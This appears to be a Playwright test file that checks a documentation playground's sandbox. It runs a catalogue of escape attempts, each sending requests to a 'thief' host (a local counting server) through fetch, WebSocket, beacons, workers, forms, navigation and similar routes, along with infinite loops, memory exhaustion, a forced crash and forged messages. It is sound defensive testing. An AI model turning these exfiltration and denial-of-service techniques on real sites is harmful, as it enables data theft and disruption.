import { createServer, type Server } from 'node:net'
import type { BrowserContext, Page } from '@playwright/test'
import { linkOf } from '../../docs/.vitepress/playground/link.ts'
import { expect, open, test } from './reader.ts'

// Links whose code tries to leave the sandbox. Each attack runs in the frame of the playground, and a server on this
// machine counts the connections that it receives.

/** Attacks. Each is the body of an async function that returns what it reached, and throws when it reached nothing. */
const ways: Readonly<Record<string, (thief: string) => string>> = {
  'the page': () => 'return document.title',
  'the window': () => 'return window.location.href',
  'the parent': () => 'return parent.document.title',
  'the top': () => 'return top.location.href',
  'the opener': () => 'return opener.document.title',
  'the frame that started it': () => 'return frames[0].name',
  localStorage: () => 'localStorage.setItem("a", "1"); return localStorage.getItem("a")',
  sessionStorage: () => 'return sessionStorage.length',
  cookies: () => 'document.cookie = "a=1"; return document.cookie',
  cookieStore: () => 'await cookieStore.set("a", "1"); return "set"',
  indexedDB: () =>
    'return await new Promise((done, fail) => { const r = indexedDB.open("a"); r.onsuccess = done; r.onerror = () => fail(r.error) })',
  caches: () => 'await caches.open("a"); return "open"',
  'files of the origin': () => 'await navigator.storage.getDirectory(); return "open"',
  fetch: (thief) => `return (await nativeFetch("http://${thief}/fetch")).status`,
  'fetch without an answer': (thief) =>
    `return (await nativeFetch("http://${thief}/blind", { method: "POST", mode: "no-cors", keepalive: true, body: "x" })).type`,
  'fetch of its own site': () => 'return (await nativeFetch(origin + "/")).status',
  'the function of another place': (thief) =>
    `return (await Object.getPrototypeOf(globalThis).constructor.prototype.fetch.call(globalThis, "http://${thief}/proto")).status`,
  XMLHttpRequest: (thief) =>
    `const x = new XMLHttpRequest(); x.open("GET", "http://${thief}/xhr", false); x.send(); return x.status`,
  WebSocket: (thief) => opened(`new WebSocket("ws://${thief}/ws")`),
  EventSource: (thief) => opened(`new EventSource("http://${thief}/es")`),
  WebTransport: (thief) => `await new WebTransport("https://${thief}/wt").ready; return "ready"`,
  RTCPeerConnection: (thief) =>
    `return new RTCPeerConnection({ iceServers: [{ urls: "stun:${thief}" }] }).iceGatheringState`,
  importScripts: (thief) => `importScripts("http://${thief}/a.js"); return "imported"`,
  'import()': (thief) => `return Object.keys(await import("http://${thief}/a.js"))`,
  'import() of data:': () => 'return (await import("data:text/javascript,export default 1")).default',
  image: (thief) => `const i = new Image(); i.src = "http://${thief}/img"; return "asked"`,
  beacon: (thief) => `return navigator.sendBeacon("http://${thief}/beacon", "x")`,
  form: (thief) =>
    `const f = document.createElement("form"); f.action = "http://${thief}/form"; document.body.append(f); f.submit(); return "sent"`,
  'navigation of the frame': (thief) => `location.href = "http://${thief}/nav"; return location.href`,
  'navigation of the top': (thief) => `top.location = "http://${thief}/top"; return "gone"`,
  'window.open': (thief) => `return open("http://${thief}/open").closed`,
  'CSS url': (thief) => `await new FontFace("a", "url(http://${thief}/font)").load(); return "loaded"`,
  'a hint for names': (thief) =>
    `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "http://${thief}"; document.head.append(l); return "hinted"`,
  'a worker of data:': (thief) =>
    started(`data:text/javascript,fetch("http://${thief}/dw").then(() => postMessage(1))`),
  'a worker in a worker': (thief) =>
    `const blob = new Blob(['fetch("http://${thief}/nw").then(() => self.postMessage(1), () => self.close())'])
     return await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(blob)); w.onmessage = done; w.onerror = fail; setTimeout(fail, 500, new Error("silent")) })`,
  'a worker of another site': (thief) => started(`http://${thief}/worker.js`),
  'a shared worker': (thief) => `return new SharedWorker("http://${thief}/sw.js").port.constructor.name`,
  'a service worker': () => 'return (await navigator.serviceWorker.register("/sw.js")).scope',
  'what eval makes': () => 'return (0, eval)("1 + 1")',
  'what Function makes': () => 'return new Function("return 1 + 1")()',
  'a message of its own': () => 'postMessage(JSON.stringify({ kind: "printed", text: "forged" })); return "sent"',
  'other tabs': () =>
    'const c = new BroadcastChannel("a"); c.postMessage("x"); c.close(); throw new Error("nobody hears")',
}

/** Returns the body of an attack that succeeds when a connection opens. */
function opened(made: string): string {
  return `return await new Promise((done, fail) => { const s = ${made}; s.onopen = () => done("open"); s.onerror = () => fail(new Error("refused")); setTimeout(fail, 500, new Error("silent")) })`
}

function started(url: string): string {
  return `return await new Promise((done, fail) => { const w = new Worker(${JSON.stringify(url)}); w.onmessage = done; w.onerror = () => fail(new Error("refused")); setTimeout(fail, 500, new Error("silent")) })`
}

/** Returns code that tries each attack and prints one line for each. */
function attackOf(thief: string): string {
  const tries = Object.entries(ways).map(
    ([name, way]) => `await tryOut(${JSON.stringify(name)}, async () => { ${way(thief)} })`,
  )
  return `const nativeFetch = fetch
const say = console.log
async function tryOut(name, way) {
  const late = new Promise((_done, fail) => setTimeout(fail, 1000, new Error('nothing came')))
  try { say('GOT ' + name + ': ' + String(await Promise.race([way(), late]))) }
  catch (error) { say('no ' + name) }
}
${tries.join('\n')}
say('tried everything')
`
}

/** Starts a server that counts connections of any protocol. */
async function listen(): Promise<{ address: string; connections: () => number; server: Server }> {
  let connections = 0
  const server = createServer((socket) => {
    connections++
    socket.on('error', () => {})
    socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  return { address: `127.0.0.1:${port}`, connections: () => connections, server }
}

test('code of a link cannot reach the page, storage or the network', async ({ page }) => {
  const { address, connections, server } = await listen()
  await open(page, `/playground${await linkOf(attackOf(address))}`)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(page.locator('.printed')).toContainText('tried everything', { timeout: 30_000 })
  const lines = (await page.locator('.printed').textContent())!.split('\n')
  expect(lines.filter((line) => line.startsWith('GOT'))).toEqual([])
  expect(lines).toEqual([...Object.keys(ways).map((name) => `no ${name}`), 'tried everything'])
  expect(connections()).toBe(0)
  await expectAlive(page)
  expect(await page.evaluate(() => [document.cookie, localStorage.getItem('a')])).toEqual(['', null])
  // A request from the test itself proves that the server counts connections.
  await page.context().request.get(`http://${address}/`)
  expect(connections()).toBe(1)
  server.close()
})

// Each program runs in its own page, at the same time, because each runs for ten seconds.
const neverEnding = {
  'a loop': 'for (;;);',
  'a loop of promises': 'for (;;) await null',
  'a loop of timers': 'await new Promise(() => setInterval(() => {}, 0))',
}

test('a program that does not end is stopped, and the page continues to work', async ({ context }) => {
  test.setTimeout(120_000)
  const ends = Object.entries(neverEnding).map(async ([name, code]) => {
    const page = await context.newPage()
    await open(page, `/playground${await linkOf(code)}`)
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    await expect(page.getByRole('button', { name: 'Run again' }), name).toBeVisible()
    // The page reacts while the code runs.
    await page.getByLabel('Example').selectOption('retry')
    await expect(page.getByLabel('Code'), name).toHaveValue(/attempts/)
    await expect(page.getByRole('status'), name).toContainText(/was stopped|memory/, { timeout: 60_000 })
    await expectAlive(page)
  })
  await Promise.all(ends)
})

const allMemory = 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length))'

test('a run that uses all memory ends only itself', async ({ page, context }) => {
  test.setTimeout(120_000)
  const { tab, status, runExample } = await openWatched(page, context, allMemory)
  await tab.getByRole('button', { name: 'Run', exact: true }).click()
  await expect.poll(status, { timeout: 60_000 }).toMatch(/was stopped|memory/)
  await runExample()
  await expect.poll(status).toBe('1 passed, 0 failed')
})

test('a run has its own process, and the page survives its crash', async ({ page, context }) => {
  const { tab, status, runExample } = await openWatched(page, context, 'console.log("running")\nfor (;;);')
  await tab.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(tab.locator('.printed')).toContainText('running')
  const [, frame] = tab.frames()
  // Chromium refuses this for a frame in the same process as its page.
  const session = await context.newCDPSession(frame!)
  void session.send('Page.crash').catch(() => {})
  await expect.poll(status).toMatch(/did not respond .* memory/)
  await runExample()
  await expect.poll(status).toBe('1 passed, 0 failed')
})

/**
 * Opens a playground in a tab, which another page reads and controls. Playwright treats the crash of a frame as a crash
 * of its page, so the test cannot use that page itself any more.
 */
async function openWatched(opener: Page, context: BrowserContext, code: string) {
  await open(opener, '/')
  const opened = context.waitForEvent('page')
  await opener.evaluate(() => Object.assign(window, { opened: window.open('about:blank') }))
  const tab = await opened
  await open(tab, `/playground${await linkOf(code)}`)
  const inTab = (action: 'read' | 'run'): Promise<string> =>
    opener.evaluate((asked) => {
      const { document } = (window as unknown as { opened: Window }).opened
      if (asked === 'run') {
        const examples = document.querySelector<HTMLSelectElement>('.playground select')!
        examples.value = 'invitation'
        examples.dispatchEvent(new Event('change'))
        document.querySelector<HTMLButtonElement>('.playground .run')!.click()
      }
      return document.querySelector('.playground [role=status]')!.textContent!
    }, action)
  return { tab, status: () => inTab('read'), runExample: () => inTab('run') }
}

/** Forged messages that the page must survive. The code has found the channel to the page. */
const forged: Readonly<Record<string, string>> = {
  'no JSON': '{',
  'no object': '7',
  'tests that are none': '{"kind":"played","tests":[null]}',
  'rows that are none': '{"kind":"played","tests":[{"name":"a","rows":[null]}]}',
  'an instant that no calendar has':
    '{"kind":"played","tests":[{"name":"a","passed":true,"rows":[{"seq":1,"at":1e300,"text":"a"}]}]}',
  'a kind of its own': '{"kind":"__proto__"}',
  'a very long timeline': JSON.stringify({
    kind: 'played',
    tests: [{ name: 'a', passed: true, rows: Array.from({ length: 200_000 }, () => ({ at: 0, text: 'x' })) }],
  }),
}

test('forged messages of a run break nothing', async ({ page }) => {
  for (const [name, said] of Object.entries(forged)) {
    await open(page, '/')
    // JSON.stringify is the last function that sees a message, so code that replaces it chooses the message.
    const code = `JSON.stringify = () => ${said.length > 1e6 ? forgedInPlace : JSON.stringify(said)}`
    await open(page, `/playground${await linkOf(code)}`)
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    await expect(page.getByRole('status'), name).not.toHaveText(/^Press Run/)
    await expectAlive(page)
  }
})

const forgedInPlace = `'{"kind":"played","tests":[{"name":"a","passed":true,"rows":[' + '{"at":0,"text":"x"},'.repeat(200000) + '{"at":0,"text":"x"}]}]}'`

test('a run that floods the page is stopped', async ({ page }) => {
  const code = `JSON.stringify = () => '{"kind":"printed","text":"' + 'x'.repeat(1e6) + '"}'\nfor (let i = 0; i < 199; i++) console.log(i)`
  await open(page, `/playground${await linkOf(code)}`)
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(page.getByRole('status')).toHaveText('The code printed too much and was stopped.')
  await expectAlive(page)
})

/** Checks that an example still runs. */
async function expectAlive(page: Page): Promise<void> {
  await page.getByLabel('Example').selectOption('invitation')
  await page.getByRole('button', { name: /^Run/ }).click()
  await expect(page.getByRole('status')).toHaveText('1 passed, 0 failed')
}
